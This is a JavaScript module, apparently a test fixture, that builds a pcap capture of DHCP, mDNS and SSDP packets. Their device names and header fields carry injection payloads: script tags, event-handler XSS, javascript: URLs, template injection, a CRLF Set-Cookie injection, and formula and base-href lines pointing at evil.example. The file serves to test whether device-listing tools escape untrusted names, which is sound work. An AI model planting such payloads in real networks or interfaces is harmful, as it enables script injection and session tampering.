// A capture of things whose names attack whoever shows them: DHCP host names and MUD addresses, mDNS
// instances, SSDP headers. Each tries to run `pwned('WHERE')` in a page, or to break out of a cell, an
// attribute, a style or a line. Bytes are those of the standards (RFC 2131, RFC 8520 §10, RFC 6762, UPnP
// 2.0 §1.2), only the texts are not nice.

const run = where => `pwned('${where}')`;

// Names as they go into every field. `WHERE` becomes the field's name.
export const NAMES = [
  '<script>RUN</script>',
  '"><img src=x onerror=RUN>',
  `'><svg/onload=RUN>`,
  '</title></style></textarea></script><script>RUN</script>',
  'javascript:RUN',
  '{{RUN}}${RUN}<%=RUN%>',
  '<a href="javascript:RUN" autofocus onfocus=RUN tabindex=1>x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<form action=//evil.example><button hx-get=/ hx-on:load=RUN>',
  '\u202egnp.exe\u0000\u001b[2J\r\nSet-Cookie: a=b',
  '=HYPERLINK("http://evil.example","RUN")',
  '<style>*{display:none}</style>',
  `--><!--]]><base href="//evil.example/">`,
];

const text = (name, where) => Buffer.from(name.replaceAll('RUN', run(where)), 'utf8');
const u16 = n => Buffer.from([n >> 8 & 255, n & 255]);
const u32 = n => Buffer.from([n >>> 24, n >> 16 & 255, n >> 8 & 255, n & 255]);

// The one's complement sum of RFC 1071.
function sum(octets) {
  let total = 0;
  for (let i = 0; i < octets.length; i += 2) total += octets[i] << 8 | (octets[i + 1] ?? 0);
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return ~total & 0xffff;
}

function frame(from, to, [source, sport], [target, port], payload) {
  const ip = a => Buffer.from(a.split('.').map(Number));
  const pseudo = Buffer.concat([ip(source), ip(target), Buffer.from([0, 17]), u16(8 + payload.length)]);
  const bare = Buffer.concat([u16(sport), u16(port), u16(8 + payload.length), u16(0), payload]);
  const udp = Buffer.from(bare);
  u16(sum(Buffer.concat([pseudo, bare])) || 0xffff).copy(udp, 6);
  const head = Buffer.concat([
    Buffer.from([0x45, 0]), u16(20 + udp.length), u16(1), u16(0), Buffer.from([64, 17]), u16(0),
    ip(source), ip(target),
  ]);
  u16(sum(head)).copy(head, 10);
  return Buffer.concat([to, from, u16(0x0800), head, udp]);
}

const option = (code, value) => Buffer.concat([Buffer.from([code, value.length]), value]);

function dhcp(mac, address, name, n) {
  const fields = Buffer.alloc(236);
  fields.set([1, 1, 6, 0]);
  u32(0x1000 + n).copy(fields, 4);
  mac.copy(fields, 28);
  const most = Buffer.from(text(name, 'dhcp').subarray(0, 250));
  const vendor = Buffer.from(text(name, 'vendor').subarray(0, 250));
  const mud = Buffer.from(`https://maker.example/${text(name, 'mud')}`.slice(0, 250));
  return Buffer.concat([
    fields, Buffer.from([0x63, 0x82, 0x53, 0x63]),
    option(53, Buffer.from([3])), option(50, Buffer.from(address.split('.').map(Number))),
    option(12, most), option(60, vendor), option(161, mud), Buffer.from([255]),
  ]);
}

// An answer with a service whose instance has the name: PTR, SRV, TXT.
function mdns(name, n) {
  const label = octets => Buffer.concat([Buffer.from([Math.min(octets.length, 63)]), octets.subarray(0, 63)]);
  const names = (...labels) => Buffer.concat([...labels.map(l => label(Buffer.from(l))), Buffer.from([0])]);
  const service = names('_http', '_tcp', 'local');
  const instance = Buffer.concat([label(text(name, 'mdns')), service]);
  const record = (owner, type, data) =>
    Buffer.concat([owner, u16(type), u16(1), u32(120), u16(data.length), data]);
  const host = names(`host${n}`, 'local');
  const model = text(name, 'txt').subarray(0, 200);
  return Buffer.concat([
    u16(0), u16(0x8400), u16(0), u16(3), u16(0), u16(0),
    record(service, 12, instance),
    record(instance, 33, Buffer.concat([u16(0), u16(0), u16(80), host])),
    record(instance, 16, Buffer.concat([
      label(Buffer.from('a=b')), Buffer.from([model.length + 3]), Buffer.from('md='), model,
    ])),
  ]);
}

function ssdp(name) {
  const bare = where => text(name, where).toString('latin1').replace(/[\r\n]/g, ' ');
  return Buffer.from([
    'NOTIFY * HTTP/1.1', 'HOST: 239.255.255.250:1900', 'NTS: ssdp:alive', `SERVER: ${bare('ssdp')}`,
    'NT: upnp:rootdevice', `USN: uuid:${bare('usn')}`, `LOCATION: http://10.9.0.1/${bare('location')}`, '', '',
  ].join('\r\n'), 'latin1');
}

// The capture (pcap, microseconds, Ethernet), beginning at a time in seconds.
export function capture(begin) {
  const records = [];
  let at = begin;
  const put = octets => {
    at += 1;
    const le = n => { const b = Buffer.alloc(4); b.writeUInt32LE(n); return b; };
    records.push(le(at), le(0), le(octets.length), le(octets.length), octets);
  };
  const all = Buffer.from('ffffffffffff', 'hex');
  NAMES.forEach((name, n) => {
    const mac = Buffer.from([0x9c, 0x8e, 0xcd, 0, 0, n + 1]);
    const address = `10.9.0.${n + 10}`;
    put(frame(mac, all, ['0.0.0.0', 68], ['255.255.255.255', 67], dhcp(mac, address, name, n)));
    const group = Buffer.from('01005e0000fb', 'hex');
    put(frame(mac, group, [address, 5353], ['224.0.0.251', 5353], mdns(name, n)));
    const upnp = Buffer.from('01005e7ffffa', 'hex');
    put(frame(mac, upnp, [address, 1900], ['239.255.255.250', 1900], ssdp(name)));
  });
  const head = Buffer.alloc(24);
  head.writeUInt32LE(0xa1b2c3d4, 0);
  head.writeUInt16LE(2, 4);
  head.writeUInt16LE(4, 6);
  head.writeUInt32LE(65535, 16);
  head.writeUInt32LE(1, 20);
  return Buffer.concat([head, ...records]);
}
